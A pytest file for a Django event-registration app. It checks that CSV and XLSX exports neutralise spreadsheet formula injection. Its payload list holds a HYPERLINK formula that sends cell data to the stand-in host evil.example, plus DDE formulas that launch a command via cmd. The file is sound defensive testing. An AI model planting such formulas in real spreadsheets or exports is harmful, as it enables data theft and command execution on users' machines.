"""The registrations' exports open safely in a spreadsheet program.

CSV: a cell starting with = + - @, a tab or a carriage return gets a leading '
(OWASP). XLSX: every text is a string cell, exactly as typed, never a formula;
read back with openpyxl, a real XLSX reader.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from registrations.models import Registration
from tests.factories import EventPageFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Camille Martin", "IRTS Marseille", "Fauteuil roulant", "3 personnes", ""]


@pytest.fixture
def registrations():
    event = EventPageFactory(title="Colloque de Lyon", registration_open=True)
    rows = []
    for number, payload in enumerate(PAYLOADS + HARMLESS):
        rows.append(
            Registration.objects.create(
                event=event,
                name=payload or "Sans organisme",
                email=f"p{number}@example.org",
                organisation=payload,
                accessibility_needs=payload,
            )
        )
    return rows


def export(client, export_format):
    response = client.get(reverse("registrations:index") + f"?export={export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.getvalue()


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(admin_client, registrations):
    rows = list(csv.DictReader(io.StringIO(export(admin_client, "csv").decode())))

    by_email = {row["E-mail"]: row for row in rows}
    for registration in registrations:
        row = by_email[registration.email]
        typed = registration.organisation
        expected = "'" + typed if typed[:1] in ("=", "+", "-", "@", "\t", "\r") else typed
        assert row["Organisme"] == expected
        assert row["Besoins d'accessibilité"] == expected
        assert not row["Nom"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert by_email["p0@example.org"]["Nom"] == "'" + PAYLOADS[0]
    # Ordinary cells are untouched.
    assert by_email["p6@example.org"]["Nom"] == "Camille Martin"
    assert by_email["p6@example.org"]["Colloque"] == "Colloque de Lyon"


def test_xlsx_cells_are_strings_exactly_as_typed_never_formulas(admin_client, registrations):
    workbook = load_workbook(io.BytesIO(export(admin_client, "xlsx")))
    sheet = workbook.active
    rows = list(sheet.iter_rows())
    headings = [cell.value for cell in rows[0]]
    name, organisation = headings.index("Nom"), headings.index("Organisme")

    names = {}
    for row in rows[1:]:
        for cell in (row[name], row[organisation]):
            if cell.value is not None:
                assert cell.data_type == "s", (cell.value, cell.data_type)
        names[row[name].value] = row[organisation].value
    for payload in PAYLOADS:
        assert names[payload] == payload
